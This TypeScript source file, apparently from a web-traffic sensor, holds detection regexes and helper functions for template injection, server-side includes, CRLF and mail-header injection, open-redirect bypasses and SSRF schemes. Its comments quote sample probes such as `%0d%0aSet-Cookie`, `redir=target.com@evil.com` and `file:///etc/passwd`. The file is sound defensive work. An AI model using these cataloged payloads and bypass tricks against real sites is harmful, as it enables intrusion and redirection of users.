  // Odin's attributes' names, each with a plain string at most — Razor writes a name's value out, and compiles no list of them; review:
  // Odin's names only, PowerShell's array subexpression `@(whoami)` runs a program by any other)
  // (fortieth round: nor Perl's dereference of a scalar, `@{$self->{ungrouped}}`, `@{$rows->[0]}`: no statement in C#, whose names have no
  // `$`, and a name and its fields in Twirl)
  new RegExp(String.raw`\{\{[^{}]{0,80}\|\s*[a-z_]{2,20}\s*[:(]|[#$]\{(?:[^\n#$]|[#$](?!\{)){0,120}?(?:\b(?:global|root)\s*\.\s*process\b|\bprocess\s*\.\s*mainmodule\b|child_process)|\{\{[^{}]{0,100}\.\s*[a-z_]\w{0,30}\s*\(|\{(?<!\{\{)%-?\s*(?!${OWN_TEMPLATE_TAG})[a-z_]{2,20}(?=\s|-?%\})[^%{}]{0,200}?-?%\}|(?:^|[\s"'>(](?<!(?:=|-[a-z]{2,30})[ \t]{0,3}[\s"'>(])|\*@)@(?:\((?!#\)|(?<=(?:^|\n)[ \t]{0,8}@\()(?:private|export|static|cold|deprecated|disabled|builtin|rodata|require_results|enable_target_feature|link_name|link_prefix|link_section|thread_local|optimization_mode|default_calling_convention|objc_name|objc_type|no_instrumentation|entry_point_only)(?:[ \t]{0,4}=[ \t]{0,4}"[\w ,.-]{0,60}")?(?:[ \t]{0,4},[ \t]{0,4}(?:private|export|static|cold|deprecated|disabled|builtin|rodata|require_results|enable_target_feature|link_name|link_prefix|link_section|thread_local|optimization_mode|default_calling_convention|objc_name|objc_type|no_instrumentation|entry_point_only)(?:[ \t]{0,4}=[ \t]{0,4}"[\w ,.-]{0,60}")?){0,6}\)[ \t]*(?:$|\n))|\{(?![a-z_]\w{0,30}\}|\$[a-z_]\w{0,30}(?:->(?:\{[a-z_]\w{0,30}\}|\[\d{1,6}\])){0,4}\}))|\[\[\s*[$*#]\{(?![^{}]{0,60}\}\s{1,10}(?:==?|!=|=~|-(?:eq|ne|lt|gt|le|ge))\s)|__\$\{[^{}]{0,80}\}__|\$\{\s*(?:sessionscope|requestscope|pagescope|pagecontext|initparam)\b|[#$]\{(?:[^\n#$]|[#$](?!\{)){0,80}?\bglobal\s*\.\s*process\b`),
]
/**
 * A template language's openings: a short value mixing two of them with hardly a blank is a polyglot
 * probe (`<%=1%>#{2}{{a}}`); a message's placeholders sit in words (`Hello ${name}, your order {{id}} shipped`).
 */
const TEMPLATE_OPENINGS = ['{{', '${', '#{', '<%', '{%', '{#', '@{', '@(', '[[', '*{'] as const
function templatePolyglot(v: string): boolean {
  let blanks = 0
  for (let i = v.indexOf(' '); i !== -1; i = v.indexOf(' ', i + 1)) if (++blanks > 2) return false
  // a Mustache section's `{{#` is one opening, not `{{` and `{#`; (thirtieth round) and so is a placeholder after a `#`, a URL's fragment in an
  // HTTP client's collection (`https://api.example.com/a#{{section}}`), not Ruby's `#{` and `{{`
  // (thirty-first round: and a Hugo shortcode's `{{%`, `{{% definition path="…" %}}`)
  const t = v.includes('{{#') || v.includes('#{{') || v.includes('{{%') ? v.replaceAll('{{#', '{{').replaceAll('#{{', '{{').replaceAll('{{%', '{{') : v
  let kinds = 0
  for (const o of TEMPLATE_OPENINGS) if (t.includes(o) && ++kinds === 2) return true
  return false
}

/** Server-side includes and edge-side includes. */
const SSI = /<!--\s*#\s*(?:include|exec|echo|config|printenv|set|if|elif|else|endif|fsize|flastmod)\b|<!--#[a-z]{2,16}\s{1,10}[a-z]{2,16}\s{0,10}=\s{0,10}["']|<esi:(?:include|vars|debug|eval|choose|when|otherwise|try|attempt|except|remove|inline|assign)\b/

/** Response splitting: a line break, then a header (any `Name:` glued to its colon; nineteenth round: not a name then `(`, a docstring's `location (str): …`) or a status line (decoded; `\r\n` and 嘊嘍 too). */
/**
 * A line break where a header value or a URL has none: what comes before it is one token, no blank, or
 * a header line or a request line itself (`Referer: http://a%0d%0aX: y`, `GET / HTTP/1.1%0d%0aHost: …`).
 */
const CRLF_START = /^[\t ]{0,8}(?:[^\s]{0,120}?[\t ]{0,8}|http\/\d(?:\.\d)?[\t ]{1,8}[1-5]\d\d(?:[\t ]{1,8}[a-z][a-z\t -]{0,30})?|[1-5]\d\d[\t ]{1,8}(?:ok|created|accepted|no content|partial content|moved permanently|moved temporarily|found|see other|not modified|temporary redirect|permanent redirect|bad request|unauthorized|forbidden|not found|method not allowed|not acceptable|conflict|gone|too many requests|internal server error|not implemented|bad gateway|service unavailable|gateway timeout|continue|switching protocols)[\t ]{0,4}|[a-z][\w-]{1,40}:[\t ]{0,8}[^\s]{1,200}|(?:get|post|head|put|delete|options|patch)[\t ]{1,8}[^\s]{1,200}[\t ]{1,8}http\/\d(?:\.\d)?)(?:[\n\r\u560a\u560d\u010a\u010d\u2028\u2029]|\\[rn]|%0[ad])/
// (twenty-third round: a tab written out after the break, `\\r\\n\\tSet-Cookie:`, folds the header line as a real one does)
const CRLF = /(?:[\n\r\u560a\u560d\u010a\u010d\u2028\u2029]|\\[rn]|%0[ad])(?:[\t ]|\\t){0,8}(?:set-cookie|location|content-(?:type|length|security-policy|disposition)|x-[a-z-]{1,40}|refresh|access-control-[a-z-]{1,30}|transfer-encoding|cache-control|link|http\/\d(?:\.\d)?|set-cookie2|strict-transport-security)\s{0,8}[:=\s/](?![\t ]{0,8}\()|(?:[\n\r\u560a\u560d]|\\[rn]|%0[ad])(?:[\t ]|\\t){0,8}(?:expires|pragma|vary|etag|last-modified|server|www-authenticate|retry-after|content-encoding|content-language|content-location|service-worker-allowed|clear-site-data|alt-svc|referrer-policy|permissions-policy|feature-policy|cross-origin-[a-z-]{1,20}|speculation-rules|accept-ch|timing-allow-origin|report-to|reporting-endpoints|nel|origin-agent-cluster|proxy-authorization|proxy-authenticate)[\t ]{0,4}:(?!=)|(?:\r?\n|\\r\\n|%0d%0a){2}[\t ]{0,8}<(?:html|script|svg|img|body|iframe|frame|video|audio|details|input|marquee|isindex|table|link|object|embed|math)\b/
/**
 * Any other hyphenated name glued to its colon after a break (`%0d%0aInjected-Header: 1`).
 * (thirtieth round: not a commit message's trailers, `⏎⏎Signed-off-by: …`, `Co-authored-by:`, `Change-Id:`, `Reviewed-on:`, `Release-As:`)
 * (thirty-second round: nor a stylesheet's declaration, an indented `font-weight: 400;` ending its line on `;`, nor in a form field's YAML document,
 * one that opens on its marker (`---`) or on a key whose block is indented below it (`jobs:⏎  build:`: `runs-on: ubuntu-latest` is a
 * mapping's line); the headers CRLF names are read in those all the same)
 */
const CRLF_ANY_NAME = /(?:[\n\r\u560a\u560d]|\\[rn]|%0[ad])(?![\t ]{1,8}[a-z][a-z0-9-]{0,60}[\t ]{0,4}:[^\n;{}]{1,300};[\t ]*(?:\n|$))[\t ]{0,8}(?!(?:signed-off|co-authored|reviewed|acked|tested|reported|suggested|helped)-by[\t ]{0,4}:|(?:change-id|reviewed-on|release-as)[\t ]{0,4}:)[a-z][a-z0-9]{0,20}-[a-z0-9-]{1,40}[\t ]{0,4}:[\t ]{0,8}\S/
const YAML_BLOCK_START = /^(?:---[\t ]*\r?\n|[\t ]{0,8}[a-z_][\w-]{0,60}:[\t ]*\r?\n[\t ]{1,16}[a-z_#-])/
/** A request line after a line break: a second request smuggled in (`%0aPOST / HTTP/1.1`, `aaa%0dHEAD http://a/ HTTP/1.1`). */
const CRLF_REQUEST = /(?:[\n\r\u560a\u560d]|\\[rn]|%0[ad])[\t ]{0,8}(?:get|post|head|put|delete|options|patch|trace|connect)[\t +]{1,8}[^\s+]{1,200}[\t +]{1,8}http\/\d/

/**
 * In a short value, any name glued to its colon after the break (`%0d%0aheader:header`; not a URL's
 * scheme, `\nhttp://`), or the name of a request header a smuggled request needs (`%0d%0aHost: …`):
 * a document's lines have those too; a front matter's `date:` or `author:` is no header anyone injects.
 */
/**
 * (fiftieth round) A short value that is an address, then a break and a mail header naming another (`test@example.com%0ABcc:
 * victim@example.org`): an address field's value spliced into a message's header lines, which a mail form sends to whoever the injected
 * `Bcc:` names. (Reviews: right after the address only, not a line of a message's text, `Hi,⏎please add⏎cc: jane@example.com`, nor a
 * greeting's, `Thanks!⏎from: jane@example.com`.)
 */
const CRLF_MAIL_HEADER = /^[\t ]{0,8}[\w.%+-]{1,64}@[\w.-]{1,255}[\t ]{0,8}(?:[\n\r]|\\[rn]|%0[ad]){1,4}[\t ]{0,8}(?:bcc|cc|to|from|reply-to|sender|return-path)[\t ]{0,4}:[\t ]{0,8}[^\s@<>]{0,64}<?[^\s@<>]{1,64}@[a-z0-9-]/
const CRLF_ANY_HEADER = /(?:[\n\r\u560a\u560d]|\\[rn]|%0[ad])[\t ]{0,8}(?:[a-z][a-z0-9]{1,40}:[^\s/:]|(?:host|cookie|connection|authorization|referer|origin)[\t ]{0,4}:[\t ]{0,8}\S)/
/**
 * (fourteenth round) A short value that opens on a line break: then any `Name: value` (`%0d%0aInjected: true`), or one
 * word wrapped in breaks (`%0d%0aINJECTX%0d%0a`, `%0atest`): a probe for splitting; a field's text does not open on a
 * break. And a NUL right before a break (`foo%00%0d%0abar`): a terminator to cut a filter's view short.
 * (review) The header's value is one token and the value's end (not a field's lines, `⏎Note: call first`), and no
 * URL's slashes (a pasted `⏎https://example.org/` is a URL, its scheme no header's name).
 */
const CRLF_LEAD = /^[\t ]{0,8}(?:[\n\r\u560a\u560d]|\\[rn]|%0[ad]){1,16}[\t ]{0,8}(?:[a-z][\w-]{0,40}[\t ]{0,4}:[\t ]{0,8}[^\s/][^\s]{0,199}|[a-z][\w-]{0,39})[\t ]{0,8}(?:[\n\r\u560a\u560d]|\\[rn]|%0[ad]){0,16}$|\0(?:[\n\r]|\\[rn]|%0[ad])/
/**
 * (review) A value opening on one backslash then a letter (`\Reports`, `\network`, `\Release\x64`) is a Windows path from
 * its drive's root, not an escaped break.
 */
/**
 * (twenty-first round) A short value that is one word, then only line breaks (`crlf%0D%0A`, `crlf%23%0A`, `crlf嘊嘍`): a probe that
 * sees whether a break it sends comes back in a header; a query's word ends on no break (a form's text may; bodies are not judged).
 */
const CRLF_TRAIL = /^[\t ]{0,8}[a-z][\w-]{0,39}[\t #?]{0,4}(?:[\n\r\u560a\u560d]|\\[rn]|%0[ad]){1,16}[\t ]{0,8}$/
const WINDOWS_ROOT_PATH = /^[\t ]{0,8}\\[rn][a-z]/
const SHORT_SPLIT = 300
/** (`form`: a form field's text, where a YAML document may be pasted; review: never a query's, a path's or a header's value, where a
 * `---⏎` opening costs an attacker nothing) */
const splitting = (t: string, form = false) =>
  (CRLF_START.test(t) && (CRLF.test(t) || (CRLF_ANY_NAME.test(t) && !(form && YAML_BLOCK_START.test(t))) || (t.length <= SHORT_SPLIT && (CRLF_ANY_HEADER.test(t) || CRLF_REQUEST.test(t) || CRLF_MAIL_HEADER.test(t))))) || (t.length <= SHORT_SPLIT && CRLF_LEAD.test(t) && !WINDOWS_ROOT_PATH.test(t))

/** A line break encoded inside another (`%%0a0a`): what a filter that removes `%0a` once leaves behind. */
const NESTED_BREAK = /%(?:%0[ad]|[\r\n])/
const BREAKS = /%0[ad]|[\r\n]/g
const ENCODED_BREAK = /%0([ad])/g
/** (fourteenth round) A break encoded inside another in its textbook shape (`%%0d0d`, `%%0a0a`): no value has that but an evasion. */
const DOUBLED_BREAK = /(?<!\d)%(?:%0[ad]|[\r\n])0[ad]/
function nestedSplitting(t: string): boolean {
  if (!NESTED_BREAK.test(t)) return false
  if (DOUBLED_BREAK.test(t)) return true
  const left = t.replace(BREAKS, '').replace(ENCODED_BREAK, (_m, c: string) => (c === 'a' ? '\n' : '\r'))
  return splitting(left)
}

/**
 * (twenty-ninth round) A message's recipient or sender, an e-mail address under a mail's key (`to`, `from`, `reply_to`: SendGrid's
 * `"to": "your.email@example.com"`), is no redirect's target; `redir=target.com@evil.com` still is one.
 */
const EMAIL_ADDRESS = /^\s{0,4}[\w.%+-]{1,64}@[a-z0-9-]{1,63}(?:\.[a-z0-9-]{1,63}){1,6}\s{0,4}$/i
const MAIL_KEY = /^(?:[\w.-]{0,20}[_.-])?(?:to|from|cc|bcc|reply_?to|recipients?|sender|e?mail(?:_?address)?)$/
const mailRecipient = (key: string, v: string) => MAIL_KEY.test(key) && EMAIL_ADDRESS.test(v)
/** Open redirects: an absolute or protocol-relative URL, or a disguised one, to another host. */
const REDIRECT_PARAM = /^(?:[\w.-]{0,20}[_.-])?(?:next|url|redirect\w{0,10}|redir|return\w{0,10}|returnto|rurl|goto|continue|dest|destination|target|to|out|view|forward|callback|success\w{0,10}|fail\w{0,10}|back(?:_?url|_?to)?|r|u|location|checkout_url|jump\w{0,6}|came_?from|origin_?url|from_?url|ref_?url)$/
const DISGUISED_URL = new RegExp(
  [
    // //host  /\host  \/host  /%09/host  ///host  /<>//host (markup a sanitizer strips)
    String.raw`^[\s\0]*(?:<>){0,2}(?:(?:\/|\\|%2f|%5c)(?:[\t\0]|<>){0,4}){2,}[^/\\\s<]`,
    // a path that starts like a host name: /www.evil.example  /evil.example//  //.evil.example
    String.raw`^[\s\0]*\/www\d{0,2}\.[\w-]{1,63}\.[a-z]|^[\s\0]*\/[\w-]{1,63}(?:\.[\w-]{1,63}){1,6}\/{2,}\s*$|^[\s\0]*\/?(?:https?:)?\/\/\.[\w-]`,
    String.raw`^[\s\0]*(?:\/|\\)[\t\n\r\0 ]+(?:\/|\\)`,
    // https:host  https:/host  https:\host  https:///host  https://%09/host
    String.raw`^[\s\0]*\/?(?:https?|ftp)\s*:\s*(?:\/?\s*\\|\\\s*\/|\/(?!\/)|\/{3,}|\/\/[\t\0 ]|[^/\s\\]{1,200}(?:\.|$))`,
    // userinfo, fragments, escapes and tabs in the authority: https://a@b  https://a%23.b  https://a\@b
    // a NUL, or a query or a fragment that starts like a host's next label: https://evil%00.target  https://evil?.target;
    // characters that normalise into a delimiter: https://evil.c℀.target (℀ is a/c)
    String.raw`^[\s\0]*\/?(?:(?:https?:)?\/\/|https?:)[^/?\s]{0,200}(?:@|%23|#[.@]|\?@|%3f|%2f|%5c|%09|\\|\t|&|\0|%00|[?#]\.[\w-]|[\u2100\u2101\u2105\u2106\u2044\ufe6b\uff20\ufe56\uff1f\ufe5f\uff03])`,
    // an authority that starts on a character no host name does, or brackets around a name (not an IPv6
    // address), which parsers skip or split differently: https://|evil.com  https://(evil.com)  https://[evil.com]/  https://a.com[/]evil.com
    String.raw`^[\s\0]*\/?(?:https?:)?\/\/(?:[|;!'"(<>{}^\x60]|\[(?![0-9a-f:.]{2,45}(?:%(?:25)?[\w.-]{1,20})?\]))|^[\s\0]*\/?(?:https?:)?\/\/[^/?#\s\[@]{1,200}\[`,
    // blanks in the authority before a userinfo's @, naming several hosts: https://target &@evil# @evil
    String.raw`^[\s\0]*\/?(?:https?:)?\/\/[^/?\s]{1,200}[ \t]{1,10}[^/?\s]{0,200}@`,
    // a port that is no port, where parsers part ways: https://evil:443.target (an encoded colon decoded)
    String.raw`^[\s\0]*\/?(?:https?:)?\/\/[^/?#\s\[@]{1,200}:\d{1,5}[^\d/?#\s:\]]`,
    // a line break in the authority, which browsers drop: https://%0a%0devil.example
    String.raw`^[\s\0]*\/?(?:https?:)?\/\/[\r\n\t]`,
    // a host after a doubled slash in the path: https://target//evil.example
    String.raw`^[\s\0]*\/?(?:https?:)?\/\/[^/?\s]{1,200}\/{2,}[\w-]{1,63}\.[a-z]{2,24}(?:[/?#]|$)`,
    // a path that climbs back out right after the host: https://a/%2f..  a.example/%2f%2e%2e
    String.raw`^[\s\0]*\/?(?:(?:https?:)?\/\/)?[\w-]{1,63}(?:\.[\w-]{1,63})+\/+(?:%2f|%5c|%2e%2e|\.\.)`,
    // a URL inside a URL's path: https://a/https://b
    String.raw`^[\s\0]*\/?https?:\/\/[^/\s]{1,200}\/https?:`,
    // look-alike slashes and dots before a host: 〱host ゝhost ｰhost 。host ⓛⓞⓒⓐⓛ
    String.raw`^[\s\0]*\/?[\u3031-\u3035\u309d\u30fc\uff70\u3002\uff0e\u2024\u2215\u2216\uff0f\uff3c\ufe68]`,
    // (fourteenth round) a line break or a blank between the slash and a host, which browsers drop (/%0d%0aevil.example);
    // a scheme whose slashes were encoded where the rest is not (https:%2f/evil.example)
    String.raw`^[\s\0]*\/[\t\r\n ]{1,4}[\w-]{1,63}(?:\.[\w-]{1,63}){0,6}\.[a-z]{2,24}(?:[/?#:]|$)|^[\s\0]*\/?https?:(?:%2f|%5c)`,
    String.raw`[\u2460-\u24ff\uff61]|\ud835[\udc00-\udfff]`,
    // a host with a tab or a look-alike semicolon inside it: www.a.tld%09.b.tld
    String.raw`^[\s\0]*[\w-]{1,63}(?:\.[\w-]{1,63})*[\t\ufe54][.@]?[\w-]`,
    // a script URL where a page is expected
    String.raw`^[\s\0]*(?:javascript|vbscript|data)\s*:`,
  ].join('|'),
)
/**
 * A redirect target that is itself a redirect: a URL whose query hands another URL to a redirect
 * parameter (`https://target/redirect?url=https://evil`); it is one when the two hosts differ.
 */
const NESTED_REDIRECT = /^\s*(?:https?:)?\/\/([^/?#\s\\@]{1,255})[^?#\s]{0,300}[?&#](?:[\w.-]{0,20}[_.-])?(?:url|uri|next|redirect\w{0,10}|redir|return\w{0,10}|goto|go|continue|dest\w{0,10}|target|forward\w{0,10}|r|u)=(?:https?:|https?%3a)?(?:\/\/|%2f%2f)([\w.-]{1,255})/
/**
 * A host given alone as the target (an application that prefixes `https://`), or prefixed by what
 * joins it to the site's own origin (`@evil.example`, `.evil.example`); a file name (`index.html`) is none.
 */
// (twenty-ninth round: a host name's labels hold no `_`, `event.custom_details.server` is a field's path)
// (thirty-fifth round: nor a data file's name, a workflow's input `{"class": "File", "location": "ref.fasta"}`: extensions no top-level domain has)
const BARE_TARGET = /^\s*[@.]?([a-z0-9-]{1,63}(?:\.[a-z0-9-]{1,63}){0,6}\.(?!(?:html?|php\d?|aspx?|jsp|do|action|cgi|pl|json|xml|js|css|txt|pdf|png|jpe?g|gif|svg|csv|tsv|fasta|fastq|fa|fq|bam|sam|vcf|bed|gff|gtf|gz|tgz|xz|yaml|yml|toml|ini|cfg|conf|log|dat|bin|xlsx?|docx?|pptx?|odt|ods|wav|flac|ogg|webp|bmp|tiff?|ico|woff|parquet|npy|npz|pkl|sqlite|db|lock)\b)[a-z]{2,24})(?:(?:[;,]?@|%40|%23|\?|\/)\S{0,200})?\s*$/
/** Code points a URL's host loses in IDNA mapping (mapped to nothing). */
const IGNORABLE = /[\u00ad\u034f\u180b-\u180f\u200b-\u200d\u2060-\u2064\ufe00-\ufe0f\ufeff]/g
/** Invisible format characters before a host (zero-width space and joiners, word joiner, soft hyphen, BOM). */
const EMBEDDED_SCHEME = /^[\s\0]{0,4}[^\s:/?#.\\]{1,8}?(https?:\/\/)/
const INVISIBLE_START = /^[\u200b-\u200f\u2060\u00ad\ufeff]{1,8}/
const BACKSLASHES = /\\/g
const BARE_IPV6 = /^[0-9a-f]{0,4}::?[0-9a-f:]{0,40}$/
const PORT = /:\d{1,5}$/
/** A dotted IPv4 address (any spelling of its numbers) and a port, `127.0.0.1:22`: not an IPv6 address without brackets. */
const IPV4_PORT = /^(?:[0-9a-fx]{1,10}\.){1,3}[0-9a-fx]{1,10}:\d{1,5}$/
const LONG_HEX = /^0x[0-9a-f]{9,40}$/
const BARE_ADDRESS = /^\s*(?:\d{1,3}\.){3}\d{1,3}\s*$/
/** A site's path that hands on to a URL in a later segment: /auth/forward/https://evil */
/** A path that is one host name of a common top-level domain, or an address (not a page: `/index.html`, `/favicon.ico`). */
const HOST_PATH = /^\s*(?:\.\.)?[/\\]\.?((?:[\w-]{1,63}\.){1,4}(?:com|net|org|io|co|pw|xyz|info|biz|me|ru|cn|tk|top|site|online|app|dev|cc|ly|gl|to)|\d{1,3}(?:\.\d{1,3}){3})\/{0,2}\s*$/
/**
 * (fifty-third round) An absolute URL to another host spelt to pass a check that compares its text with the site's name (what a
 * payload list writes as `whitelisted.com`, `legit.com`; our own name is `#namesOwnElsewhere`'s): a host whose first labels are a
 * whole site name, a name of one label (`www` at most before it) under com, net, org or a country's co, com, net, org, gov, edu, ac
 * (`whitelisted.com.evil.com`, `legit.co.uk.evil.net`; not a country's suffix, `shop.com.au`; review: not a government's
 * `www2.gov.bc.ca`, a county's `www.co.pierce.wa.us`, nor a bucket, a CDN's edge or a library proxy named for its site,
 * NAMED_FOR_SITE; a site's name as the query or fragment is none either, a lookup's or an anchor's: `https://whois.example/?example.org`)…
 */
const SITE_AS_LABELS = /^(?:www\d{0,2}\.)?[\w-]{1,63}\.(?:com|net|org|(?:co|com|net|org|gov|edu|ac)\.[a-z]{2})\.(?:[\w-]{1,63}\.){1,6}[a-z]{2,24}$/
/** (review) hosts that carry a site's name as their first labels by design: a bucket named for its site, a CDN's edge name, a library proxy */
const NAMED_FOR_SITE = /\.(?:s3[\w.-]{0,30}\.amazonaws\.com|storage\.googleapis\.com|edgekey\.net|edgesuite\.net|akamaized\.net|cloudfront\.net|plesk\.page|nip\.io|sslip\.io)$|\.ezproxy\./
/**
 * …a character no host name holds, which a browser's IDNA mapping changes or refuses, between a top-level label and more of the host
 * (`legit.com°evil.com`, `legit.com／evil.com`; review: not an emoji domain's `i❤.ws`, the Catalan `col·legi.cat`, a pasted quote)…
 */
const HOST_SYMBOL = /\.[a-z]{2,24}[^\x00-\x7f\p{L}\p{N}\p{M}]+[\w-]/u
/**
 * …or a line break after it and before its query or fragment, raw or escaped (`https://evil.com%0d%0a`): a `Location` header split
 * (review: a share, calendar or mail link's own text carries `%0A` in its query; a pasted URL's trailing break is none)
 */
const BREAK_AFTER_HOST = /^[^?#]*?(?:[\r\n]|%0[ad])/
/** A URL's scheme in mixed case past its first letter (HtTp://, hTTps://, HTTPs://); `Https://` and `HTTP://` are a person's. */
const MIXED_CASE_SCHEME = /^\s*(?:[a-zA-Z]{0,8}[a-z][A-Z]|[A-Z]{2}[A-Za-z]{0,6}[a-z])[A-Za-z]{0,8}:\/\//
const PATH_THEN_URL = /^\s*\/[^?\s]{0,200}?\/https?:\/\/[^/\s]/
const BODY_REDIRECT = /redirect|redir|return|next|continue|goto|dest|forward|success|fail|back|came_?from/
/** (review) A nested redirect parameter whose name says it holds a URL: a bare host there is a target (`?url=evil.com`). */
const NESTED_URL_PARAM = /(?:^|[_.-])(?:url|uri|redirect\w{0,10}|redir|return\w{0,10}|returnto|rurl|goto|continue|forward|callback|location|jump\w{0,6}|back(?:_?url|_?to)?)$/i
/** A path that is itself a redirector's: /redirect/evil.example  /out?evil.example  /goto/https://… */
const REDIRECT_PATH = /^\/(?:redirect|redir|out|goto|go|url|link|away|exit|jump|leave|r|external|outbound)(?:\/|\?)(?:[\w]{1,20}=)?(?:https?:)?\/{0,3}[\w-]{1,63}(?:\.[\w-]{1,63})+/
/** A host climbing out right after it, in a path: /evil.example/%2f%2e%2e */
/** (sixteenth round) A host's label mixing Latin letters with Cyrillic or Greek ones (`еvil.com`): a homograph; `пример.com` is not. */
const HOMOGRAPH = /(?:^|\.)[^.]{0,62}(?:[a-z][^.]{0,62}[\u0370-\u04ff]|[\u0370-\u04ff][^.]{0,62}[a-z])/
/** (fourteenth round) Control characters opening a value, before a URL (a pasted blank is not one). */
/** Schemes no redirect of a web page goes to, to a host (twentieth round; `file:///home/…`, a local file, is not another site). */
const FOREIGN_SCHEME = /^\s{0,4}(?:(?:file|smb|ftp|ftps|gopher|dict|ldap|tftp|jar|netdoc):\/\/[^\s/]|(?:search-ms|ms-msdt|ms-officecmd):)/
const LEADING_CONTROLS = /^[\x00-\x1f]{1,16}(?=(?:https?:)?\/\/)/
/**
 * (fourteenth round) A climb straight into a protocol-relative URL: `/..//evil.example`, `\\..\\\\evil.example`.
 * (review) Not a climb to a page or a file of the site's own (`/../index.html`, `/../app.js`): a host's last label is no file's extension.
 */
const CLIMB_TO_HOST = /^[\s\0]*[/\\]\.\.(?:[/\\]{2,}|;?(?:[/\\]|%2f|%5c|%252f|%255c){1,3})(?![\w-]{1,63}(?:\.[\w-]{1,63}){0,6}\.(?:html?|xhtml|php\d?|aspx?|jsp|cgi|js|mjs|css|json|xml|txt|pdf|png|jpe?g|gif|svg|webp|ico|woff2?)(?:[/?#:]|$))[\w-]{1,63}(?:\.[\w-]{1,63}){0,6}\.[a-z]{2,24}(?:[/?#:]|$)/
const HOST_CLIMB_PATH = /^\/[\w-]{1,63}(?:\.[\w-]{1,63}){1,6}\/{1,3}(?:%2f|%5c|%2e%2e)/
/** A redirector's path whose query is only a host or a URL: /out?evil.example */
/** (twelfth round) a path opening on a blank a browser drops, then a host or a URL: /%09evil.example  /%09https://evil.example */
const BLANK_HOST_PATH = /^\/[\t ]{1,4}(?:(?:https?:)?\/\/)?[\w-]{1,63}(?:\.[\w-]{1,63}){0,6}\.[a-z]{2,24}(?:[/?#]|$)/
const REDIRECTOR = /^\/(?:redirect|redir|out|goto|go|url|link|away|exit|jump|leave|r|external|outbound)\/?$/i
const HOST_QUERY = /^(?:https?:|https?%3a)?(?:\/|%2f){0,3}[\w-]{1,63}(?:\.[\w-]{1,63}){1,6}(?:[/?#]|%2f|$)/i
const SECOND_URL = /[;\s]\s{0,4}(?:https?:)?\/\/([\w.-]{1,255})/
/** (twelfth round) an unreserved character percent-encoded (a letter, `.`, `-`, `_`, `~`, also encoded again): no client writes one */
const ENCODED_UNRESERVED = /%(?:25){0,3}(?:[46][1-9a-f]|[57][0-9a]|2[de]|5f|7e)/i
const ABSOLUTE_URL = /^\s*(?:(?:https?|ftp):)?\/\/([^/?#\s\\]{1,255})/
/** an authority's user information, up to its `@`, and its port: what a host is compared without */
const LEADING_USERINFO = /^[^@]*@/
const TRAILING_PORT = /:\d+$/

/** Server-side request forgery: a URL aimed at the sensor's side of the network, or a dangerous scheme. */
const URL_IN_VALUE = /^\s*([a-z][a-z0-9+.-]{1,15}):\/\/(?:[^/?#@\s]{0,100}@)?(\[[0-9a-f:.]{2,60}\]|[^/?#:\s\\]{0,255})/
const SCHEME_ONLY = /^\s*([a-z][a-z0-9+.-]{1,15}):(?!\/\/)([^\s]{1,300})$/
/** (json22) After a scheme without slashes, a port and a path (`HTTP:80/`, `TCP:5000`): a health check's target, no host. */
const PORT_TARGET = /^[1-9]\d{0,4}(?:\/[\w.\/-]{0,200})?$/
/** A backreference standing for a host: `\\1`, `$1`. */
const BACKREFERENCE_HOST = /^(?:\\\\|\\|\$)\d{1,2}$/
/** A JDBC URL's host, after the driver's scheme: `mysql://host`, `oracle:thin:@host`, `sqlserver://host`. */
const JDBC_HOST = /^[a-z][\w+.-]{0,20}:(?:[a-z]{1,10}:)?(?:\/\/|@\/{0,2})(\[[0-9a-f:.]{2,60}\]|[^/?#:;\s\\]{1,255})/
/** An HTTP method and blanks before a URL. */
const METHOD_BEFORE_URL = /^\s{0,4}(?:get|post|put|delete|head|options|patch)[ \t]{1,4}(?=[a-z][a-z0-9+.-]{1,15}:\/\/)/
/** What follows such a scheme when it names a place: a path, a host and a port, a jar's entry (`host!/`). */
const SCHEME_REST = /^[/\\]|^[\w.-]+:\d|^[\w.-]+!\//
const NESTED_SCHEME = /^\s*(?:jar|netdoc|phar|url|view-source):[a-z]{2,8}:/
const WEB_SCHEME = /^(?:https?|wss?|ftp)$/
/** Schemes whose authority is a host on a network (a service a server can be made to call). */
const NETWORK_SCHEME = /^(?:https?|wss?|ftps?|sftp|file|smb|cifs|nfs|ssh|telnet|redis|rediss|mongodb(?:\+srv)?|mysql|mariadb|postgres(?:ql)?|mssql|sqlserver|oracle|amqps?|mqtts?|kafka|nats|stomp|smtps?|imaps?|pop3s?|ldaps?|memcached?|zookeeper|etcd|consul|elasticsearch|couchdb|cassandra|tcp|udp|rtsp|sip|gopher|dict|tftp|rmi|iiop|jdbc|unix)$/
/** (twelfth round) a host name of one label, letters first (an address spelt as a number is judged as one) */
const SINGLE_LABEL = /^[a-z][a-z0-9_-]{0,62}$/
/** Schemes that smuggle requests to other protocols: SSRF wherever they are given as a value. */
const SMUGGLING_SCHEME = /^(?:gopher|dict|jar|netdoc|phar|expect|tftp|ldap|ldaps|rmi|iiop|jdbc)$/
/** Schemes a fetching server may follow elsewhere: SSRF in a parameter, a configuration's own in a document. */
const DANGEROUS_SCHEME = /^(?:gopher|dict|ldap|ldaps|jar|netdoc|tftp|phar|expect|sftp|telnet|rmi|iiop|jdbc|php|zip|glob|ogg|rar|ssh2|unix|data)$/
/** A file URL to a system location (elsewhere a file URL names the client's own files). */
const FILE_URL = /^\s*(?:local_)?file:[/\\]{0,6}(?:(?:localhost|127(?:\.\d{1,3}){1,3}|\[::1\])[/\\])?(?:(?:etc|proc|windows|winnt|root|boot|dev|sys)\b|[a-z]:|var\/log|home\/[^/]{1,40}\/\.)/
/** Hosts reserved for documentation (RFC 3849, RFC 5737, RFC 2606): a document's examples, no one's service. */
/** A `file:` URL's slashes and `.` segments resolved and its globs expanded, as the file is opened: file:////./etc/./passwd  file:///e??/pa??wd */
// (twenty-first round: macOS's system folders, `/private/etc/…`, `/Library/…`, and a container's `/app/` and `/flag`, a CTF's target)
const FILE_URL_ANY = /^\s*(?:local_)?file:[/\\]{1,6}(?:(?:localhost|127(?:\.\d{1,3}){1,3})[/\\]{1,4})?(?:\.\.[/\\]|(?:var|srv|opt|usr|run|inetpub|app|private|library|system|applications)(?:[/\\]|$)|flag\b|[a-z]\$[/\\])/
const FILE_URL_START = /^\s*(?:local_)?file:[/\\]{0,6}/
const DOT_SEGMENTS = /[/\\]\.(?=[/\\])/g
const DOT_BEFORE_CLIMB = /^(?:\.[/\\]{1,4}){1,8}(?=\.\.[/\\])/
function fileUrlPath(v: string): string {
  const m = FILE_URL_START.exec(v)
  if (m === null) return v
  return `file:///${expandGlobs('/' + v.slice(m[0].length).replace(DOT_SEGMENTS, '').replace(LEADING_DOT, '')).slice(1)}`
}
